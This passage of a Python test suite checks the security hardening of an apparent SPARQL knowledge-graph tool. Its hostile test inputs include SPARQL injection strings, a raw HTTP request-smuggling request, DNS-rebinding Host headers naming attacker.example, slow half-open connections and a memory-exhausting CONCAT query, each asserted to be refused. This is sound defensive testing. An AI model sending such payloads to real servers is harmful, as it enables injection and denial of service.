                still_open += 1
            except OSError:
                pass
        assert still_open <= ServeConfig().max_connections + 16, still_open
        assert server.poll() is None  # and the server is still up
    finally:
        for s in attackers:
            s.close()
        server.terminate()
        try:
            server.wait(15)
        except subprocess.TimeoutExpired:
            server.kill()
            server.wait()
        log.close()


# ----------------------------------------------------------------------------------------------------
# Problem 11: a parameter that is not a valid IRI or literal is a user error, in one line

#: Values written as IRIs (between angle brackets) that are not valid IRIs: user errors.
BAD_IRIS = [
    "<http://x> } } UNION { ?s ?p ?o } } #>",  # the issue's
    "<http://x> . ?s ?p ?o . <http://y>",
    "<http://x>\n} UNION {<http://y>",
    '<http://x"y>',
    "<not an iri>",
]
#: Free text is a plain string literal (kzgraph's documented reading of a value): bound, never injected.
TEXT_VALUES = ['"x" } UNION { ?s ?p ?o } #', "post:x> } UNION { ?s ?p ?o } #"]


@pytest.mark.parametrize("value", BAD_IRIS, ids=range(len(BAD_IRIS)))
def test_problem_11_a_bad_parameter_is_one_line(
    value: str, endpoint: tuple[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    for name, param in (("office-holders", "post"), ("accusations-against", "person")):
        code = main(["query", name, "--param", f"{param}={value}"])
        out, err = capsys.readouterr()
        assert code == 2 and out == ""
        line = one_error_line(err)
        assert "internal error" not in line and f"parameter {param}" in line and "not a valid IRI" in line
    base, _ = endpoint
    logger = logging.getLogger("uvicorn.error")
    records: list[logging.LogRecord] = []
    handler = logging.Handler()
    handler.emit = records.append  # type: ignore[method-assign]
    logger.addHandler(handler)
    try:
        status, _, body = request(base + "/queries/office-holders?" + urllib.parse.urlencode({"post": value}))
    finally:
        logger.removeHandler(handler)
    assert status == 400, (status, body)
    assert body.strip().count(b"\n") == 0 and b"parameter post" in body, body
    assert [r.getMessage() for r in records if r.levelno >= logging.ERROR] == []


@pytest.mark.parametrize("value", TEXT_VALUES, ids=range(len(TEXT_VALUES)))
def test_problem_11_free_text_is_a_literal_never_injected(
    value: str, endpoint: tuple[str, Any], capsys: pytest.CaptureFixture[str]
) -> None:
    assert main(["query", "office-holders", "--param", f"post={value}", "--format", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == []  # no post is that string: nothing, not everything
    base, _ = endpoint
    url = base + "/queries/office-holders?" + urllib.parse.urlencode({"post": value})
    status, _, body = request(url, headers={"Accept": "application/sparql-results+json"})
    assert status == 200 and json.loads(body)["results"]["bindings"] == []


# ----------------------------------------------------------------------------------------------------
# Concerns


def host_request(port: int, host: str) -> tuple[int, bytes]:
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=10)
    try:
        conn.putrequest("GET", "/sparql?query=ASK%7B%7D", skip_host=True)
        conn.putheader("Host", host)
        conn.endheaders()
        r = conn.getresponse()
        return r.status, r.read()
    finally:
        conn.close()


def test_concern_host_header_dns_rebinding(endpoint: tuple[str, Any]) -> None:
    base, _ = endpoint
    port = port_of(base)
    allowed = [
        f"127.0.0.1:{port}",
        "127.0.0.1",
        f"localhost:{port}",
        "LocalHost",
        f"[::1]:{port}",
        ALLOWED,
        f"{ALLOWED}:{port}",
    ]
    refused = [
        "attacker.example",
        f"attacker.example:{port}",
        f"localhost.attacker.example:{port}",
        "127.0.0.1.nip.io",
        f"{ALLOWED}.attacker.example",
        "0x7f000001",
    ]
    for host in allowed:
        assert host_request(port, host)[0] == 200, host
    for host in refused:
        status, body = host_request(port, host)
        assert 400 <= status < 500 and b"true" not in body, (host, status, body)
        assert b"host" in body.lower(), body
    # the option that allows other names
    assert build_parser().parse_args(["serve", "--allow-host", "kg.example"]).allow_host == ["kg.example"]


def test_concern_content_length_with_transfer_encoding_is_400(endpoint: tuple[str, Any]) -> None:
    port = port_of(endpoint[0])
    for te in ("chunked", "Chunked", "gzip, chunked"):
        smuggled = (
            f"POST /sparql HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nContent-Type: application/sparql-query\r\n"
            f"Content-Length: 16\r\nTransfer-Encoding: {te}\r\n\r\n10\r\nASK {{ ?s ?p ?o }}\r\n0\r\n\r\n"
        )
        response = raw_exchange(port, smuggled.encode())
        assert status_of(response) == 400, (te, response[:300])
        assert b"true" not in response


def test_concern_half_open_connections_are_closed(endpoint: tuple[str, Any]) -> None:
    """Headers must arrive within the header timeout, a body within the body timeout, and an idle kept-alive
    connection must send its next request in time: otherwise the server closes the connection."""
    port = port_of(endpoint[0])
    host = f"Host: 127.0.0.1:{port}\r\n"
    openers = {
        "silent": b"",
        "half a request line": b"GET /spa",
        "headers never finished": f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n{host}X-Slow: 1".encode(),
        "body never finished": (
            f"POST /sparql HTTP/1.1\r\n{host}Content-Type: application/sparql-query\r\n"
            "Content-Length: 100\r\n\r\nASK {"
        ).encode(),
        "idle after a response": f"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n{host}\r\n".encode(),
    }

    def closed_after(payload: bytes) -> tuple[float, bytes]:
        with socket.create_connection(("127.0.0.1", port), timeout=10) as s:
            start = time.monotonic()
            s.sendall(payload)
            got = b""
            with contextlib.suppress(ConnectionResetError):
                while chunk := s.recv(65536):
                    got += chunk
            return time.monotonic() - start, got

    results = in_parallel(*(lambda p=p: closed_after(p) for p in openers.values()))
    for (what, _), (elapsed, got) in zip(openers.items(), results, strict=True):
        limit = (BODY_TIMEOUT if what == "body never finished" else HEADER_TIMEOUT) + 2.5
        assert elapsed < limit, (what, elapsed)  # closed by the server, not by our 10 s timeout
        if what == "idle after a response":
            assert status_of(got) == 200
        elif what == "body never finished":
            assert got == b"" or status_of(got) == 408, got[:200]
    from kzgraph.serve import ServeConfig

    assert ServeConfig().header_timeout <= 10 and ServeConfig().body_timeout <= 30


def test_concern_out_naming_a_device_is_not_replaced(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    # First a pipe we own, named through /proc: if it were replaced, /dev/null is not tried.
    read_end, write_end = os.pipe()
    try:
        monkeypatch.setattr("sys.stdin", io.StringIO("ASK { ?s ?p ?o }"))
        assert main(["query", "-", "-o", f"/proc/self/fd/{write_end}"]) == 0, capsys.readouterr().err
        assert stat.S_ISFIFO(os.fstat(write_end).st_mode)
        assert os.read(read_end, 100) == b"true\n"
    finally:
        os.close(read_end)
        os.close(write_end)
    link = tmp_path / "null-link.ttl"
    link.symlink_to("/dev/null")
    before = os.stat("/dev/null")
    assert stat.S_ISCHR(before.st_mode)
    for argv in (
        ["export", "--format", "nt", "-o", str(link)],
        ["export", "--format", "turtle", "-o", "/dev/null"],
        ["query", "election-results", "--format", "csv", "-o", "/dev/null"],
    ):
        assert main(argv) == 0, (argv, capsys.readouterr().err)
        after = os.stat("/dev/null")
        assert stat.S_ISCHR(after.st_mode) and after.st_rdev == before.st_rdev, argv
    assert link.is_symlink() and os.readlink(link) == "/dev/null"
    assert [p.name for p in tmp_path.iterdir()] == ["null-link.ttl"]
    assert not any(p.name.startswith(".null") for p in Path("/dev").iterdir())


def test_concern_quality_report_is_byte_identical_between_builds(tmp_path: Path) -> None:
    """Two builds in two processes with different hash seeds (set and dict orders differ) write the same
    bytes: the quality report, and every other file."""
    first, second = tmp_path / "first", tmp_path / "second"
    runs = in_parallel(
        lambda: kz("build", "--out", str(first), env={"PYTHONHASHSEED": "1"}, timeout=120),
        lambda: kz("build", "--out", str(second), env={"PYTHONHASHSEED": "2"}, timeout=120),
    )
    for done, _ in runs:
        assert done.returncode == 0, done.stderr[-1000:]
    files = sorted(p.name for p in first.iterdir() if p.is_file() and not p.is_symlink())
    assert "quality-report.md" in files
    assert (first / "quality-report.md").read_bytes() == (second / "quality-report.md").read_bytes()
    different = [n for n in files if (first / n).read_bytes() != (second / n).read_bytes()]
    assert different == []


CONCAT = (
    'SELECT (STRLEN(?x30) AS ?n) WHERE { BIND("ab" AS ?x0) '
    + " ".join(f"BIND(CONCAT(?x{i}, ?x{i}) AS ?x{i + 1})" for i in range(30))
    + " }\n"
)


def test_concern_concat_doubling_is_one_line_not_a_rust_backtrace(endpoint: tuple[str, Any]) -> None:
    done, elapsed = kz(
        "--memory-limit", "400", "--timeout", "60", "query", "-", stdin=CONCAT, env={"RUST_BACKTRACE": "1"}
    )
    assert done.returncode == 3, done.stderr[-1000:]
    line = one_error_line(done.stderr)
    assert "400 MB memory budget" in line, line
    assert "backtrace" not in done.stderr and "memory allocation" not in done.stderr
    assert done.stdout == ""
    assert elapsed < 20
    base, _ = endpoint
    status, _, body = sparql_post(base, CONCAT)
    assert status == 503 and f"{WORKER_MB} MB".encode() in body and body.strip().count(b"\n") == 0, body
    assert sparql_get(base, "ASK { ?s ?p ?o }")[0] == 200


#: networkx's exact betweenness of this hub takes hours; sampling 100 sources takes about 11 s here.
HUB_SECONDS = 25
HUB = """\
import sys, networkx as nx
from kzgraph.network import network_stats
net = nx.MultiDiGraph()
net.add_node("hub", label="The Hub", kind="person")
for i in range(20000):
    net.add_node(f"s{i}", label=f"Spoke {i}", kind="person")
    net.add_edge("hub", f"s{i}", key=f"e{i}", relation="family", label="tie")
print(network_stats(net, top=3).text(net))
"""


def test_concern_stats_on_a_large_hub_uses_approximate_betweenness() -> None:
    """Exact betweenness of a 20,000-spoke hub takes hours in networkx; above a documented size kzgraph
    samples (networkx's ``k``) and says so in the output."""
    start = time.monotonic()
    try:
        done = subprocess.run(
            [sys.executable, "-c", HUB], capture_output=True, text=True, timeout=HUB_SECONDS
        )
    except subprocess.TimeoutExpired:
        pytest.fail(f"stats on a 20,000-spoke hub did not finish in {HUB_SECONDS} s (exact betweenness?)")
    assert done.returncode == 0, done.stderr[-1000:]
    out = done.stdout
    assert re.search(r"betweenness.*approximat|approximat.*betweenness", out, re.IGNORECASE | re.DOTALL), out
    between = out.lower().split("betweenness", 1)[1]
    assert "The Hub" in between.split("\n", 3)[1] or "the hub" in between.split("\n", 3)[1].lower(), out
    assert time.monotonic() - start < HUB_SECONDS


# ----------------------------------------------------------------------------------------------------
# The README's Security section states every limit, and the decision on every concern


def test_readme_security_section_states_every_limit_and_decision() -> None:
    """Every limit (depth, size, time, memory, connections, header read time) and the decision on every
    concern is stated in the README's Security section, with the number the code uses."""
    from kzgraph.load import DEFAULT_LIMITS
    from kzgraph.serve import ServeConfig
    from kzgraph.sparql.guard import MAX_DEPTH

    readme = (ROOT / "README.md").read_text(encoding="utf-8")
    section = readme.split("## Security", 1)[1].split("\n## ", 1)[0]
    flat = " ".join(section.replace(",", "").split()).lower()
    config = ServeConfig()

    def near(a: str, b: str) -> str:  # both in one sentence
        return rf"{a}[^.]*{b}|{b}[^.]*{a}"

    required = {
        "query nesting depth": near(rf"\b{MAX_DEPTH}\b", "(nest|deep|depth)"),
        "JSON-LD depth": near(rf"\b{DEFAULT_LIMITS.json_depth}\b", "json"),
        "file size": r"64 mb",
        "time budget": r"--timeout",
        "memory budget": r"--memory-limit",
        "connection cap": near(rf"\b{config.max_connections}\b", "connections"),
        "header read time": near(rf"\b{config.header_timeout:g} ?s", "header"),
        "body size": near(r"(\b1000000\b|\b1 mb)", "(body|request)"),
        "Host header option": r"--allow-host",
        "Content-Length with Transfer-Encoding": near("content-length", "transfer-encoding"),
        "CSV formulas": near("csv", "formula"),
        "W3C CSV unchanged": near("w3c", "csv"),
        "XML characters": near("xml", r"(u\+fffd|replace|escape)"),
        "devices and FIFOs": near("fifo", "device"),
        "approximate betweenness": near("betweenness", "approximat"),
        "byte-identical outputs": r"byte-identical",
        "terminal escapes": near("terminal", "escape"),
    }
    missing = [what for what, pattern in required.items() if not re.search(pattern, flat)]
    assert missing == [], f"the README's Security section does not state: {missing}"
    assert "not guaranteed: the memory a single in-budget query may use" not in flat
